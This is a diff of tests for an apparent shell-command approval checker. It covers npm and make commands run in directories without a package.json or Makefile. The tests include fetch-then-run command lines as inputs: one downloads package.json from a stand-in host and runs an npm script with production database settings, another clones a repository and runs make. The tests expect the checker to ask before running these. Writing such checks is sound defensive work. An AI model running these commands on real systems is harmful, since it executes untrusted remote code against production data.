@@ -73,9 +73,14 @@ def test_a_missing_script_fails_harmlessly(project: Path) -> None:
     assert "no such script" in verdict.effects[0].summary
 
 
-def test_without_package_json_npm_run_is_unknown_work(tmp_path: Path) -> None:
+def test_without_package_json_npm_run_runs_nothing(tmp_path: Path) -> None:
     verdict = shell("npm run db:push", cwd=str(tmp_path), env={"DATABASE_URL": PROD_URL})
-    assert verdict.decision == "ask"  # it runs with prod connection settings
+    assert verdict.decision == "allow"  # npm fails: there is no script to run
+    assert "absent-program" in verdict.effects[0].tags
+    # unless this command line may write the package.json first
+    verdict = shell("curl -o package.json https://x.example/p.json && npm run db:push", cwd=str(tmp_path),
+                    env={"DATABASE_URL": PROD_URL})
+    assert verdict.decision == "ask"
 
 
 def test_recursive_scripts_are_bounded(tmp_path: Path) -> None:
@@ -219,7 +224,9 @@ def test_make_in_another_directory(makefile: Path) -> None:
     assert shell(f"make -C {makefile} reset", cwd=str(makefile)).approvals_required == 2
 
 
-def test_make_without_a_makefile_is_local_unknown_work(tmp_path: Path) -> None:
+def test_make_without_a_makefile_runs_nothing(tmp_path: Path) -> None:
     verdict = shell("make all", cwd=str(tmp_path))
     assert verdict.decision == "allow"
-    assert "could not be read" in verdict.effects[0].summary
+    assert "absent-program" in verdict.effects[0].tags
+    verdict = shell("git clone https://github.com/x/y . && make all", cwd=str(tmp_path))
+    assert verdict.decision == "ask"  # the clone may bring a Makefile
